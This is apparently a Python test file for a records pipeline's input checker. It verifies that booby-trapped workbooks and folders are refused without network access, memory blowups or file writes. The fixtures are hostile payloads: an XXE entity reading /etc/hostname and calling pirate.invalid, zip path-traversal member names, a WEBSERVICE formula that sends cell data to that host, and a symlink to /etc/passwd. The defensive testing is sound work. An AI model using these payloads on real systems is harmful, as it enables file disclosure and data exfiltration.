"""Workbooks and folders made to harm who opens them: refused with a finding, quickly, asking for nothing.

Slow: sources that would fill the memory or take minutes, each measured.
"""

from __future__ import annotations

import resource
import socket
import time
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from rlpipeline.records.store import check
from rlpipeline.settings.models import Service
from tests.records.conftest import service as settings
from tests.records.sample import sample
from tests.records.writers import csv_bytes, write_csv, write_xlsx

pytestmark = pytest.mark.slow

service = settings
SECONDS = 20
GROWTH = 600_000
"""Kilobytes that the process may grow by while it refuses."""
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname"><!ENTITY b SYSTEM "http://pirate.invalid/x">]>'
SHEET = "xl/worksheets/sheet1.xml"


def xlsx(place: Path, changes: Mapping[str, bytes | Callable[[bytes], bytes]]) -> Path:
    """A good workbook with members changed or added."""
    path = Path(write_xlsx(sample("jeunes"), place / "source.xlsx"))
    return rewritten(path, changes)


def rewritten(path: Path, changes: Mapping[str, bytes | Callable[[bytes], bytes]]) -> Path:
    with zipfile.ZipFile(path) as before:
        members = {name: before.read(name) for name in before.namelist()}
    for name, change in changes.items():
        members[name] = change(members[name]) if callable(change) else change
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as after:
        for name, content in members.items():
            after.writestr(name, content)
    return path


def with_dtd(xml: bytes) -> bytes:
    text = xml.decode()
    start = text.index("?>") + 2 if text.startswith("<?xml") else 0
    return f"{text[:start]}{XXE}{text[start:]}".encode()


def climbing(place: Path) -> Path:
    return xlsx(
        place,
        {
            "../../../../tmp/pris.txt": b"x",
            "/etc/pris": b"x",
            "..\\..\\pris": b"x",
            "xl/pris\0.xml": b"x",
        },
    )


def formulas(place: Path) -> Path:
    formula = b'<c r="A2"><f>WEBSERVICE("http://pirate.invalid/"&amp;A1)</f></c>'
    return xlsx(
        place,
        {
            SHEET: lambda xml: xml.replace(
                b"</sheetData>", b'<row r="99">' + formula + b"</row></sheetData>"
            )
        },
    )


WORKBOOKS: dict[str, tuple[Callable[[Path], Path], str | None]] = {
    "xxe_feuille": (lambda place: xlsx(place, {SHEET: with_dtd}), None),
    "chemins": (climbing, None),
    "formule_reseau": (formulas, "E107"),
}


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def connect(*_: object) -> None:
        pytest.fail("the network was asked for something")

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket, "getaddrinfo", connect)


@pytest.mark.parametrize("name", WORKBOOKS)
def test_a_workbook_is_refused_or_only_read(tmp_path: Path, service: Service, name: str) -> None:
    make, code = WORKBOOKS[name]
    place = tmp_path / "un/peu/plus/bas"  # than where a name that goes up could lead
    place.mkdir(parents=True)
    source = make(place)
    files = {path for path in tmp_path.rglob("*") if path.is_file()}
    before, since = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
    found = check(str(source), service)
    assert time.process_time() - since < SECONDS
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < GROWTH
    assert {path for path in tmp_path.rglob("*") if path.is_file()} == files
    errors = {item.code for item in found if item.gravite == "erreur"}
    assert errors == ({code} if code else set())
    assert not [item for item in found if "root:" in item.message or "root:" in (item.valeur or "")]


def test_files_of_other_names_are_left_alone(tmp_path: Path, service: Service) -> None:
    place = Path(write_csv(sample("jeunes"), tmp_path / "source"))
    for name in ("..%2f..%2fx.csv", "jeunes\nsuivis.csv", "<script>alert(1)<.csv"):
        (place / name).write_bytes(b"a\n1\n")
    (place / "notes.csv").symlink_to("/etc/passwd")
    (place / "temps.csv.csv").mkdir()
    found = check(str(place), service)
    assert not [item for item in found if item.gravite == "erreur"]
    assert not [item for item in found if "root:" in item.message]
    assert (
        sum(item.code == "A001" for item in found) == 3
    )  # a name that begins with a dot is hidden


CELLS = (
    b"Ville\0",
    b"\x1b[31mVille",
    b"Ville\x07",
    "Vil\ufffdle".encode(),
    b"x" * 40_000,
    b"#REF!",
)


def test_a_cell_that_no_page_can_show_is_an_error(tmp_path: Path, service: Service) -> None:
    source = Path(write_csv(sample("financements"), tmp_path / "source"))
    rows = [csv_bytes(sample()["financements"]), *(b"2023,%b,1,\r\n" % cell for cell in CELLS)]
    (source / "financements.csv").write_bytes(b"".join(rows))
    found = [item for item in check(str(source), service) if item.gravite == "erreur"]
    assert {(item.table, item.colonne) for item in found} == {("financements", "financeur")}
    assert sorted(line for item in found for line in item.lignes) == [*range(4, 4 + len(CELLS))]
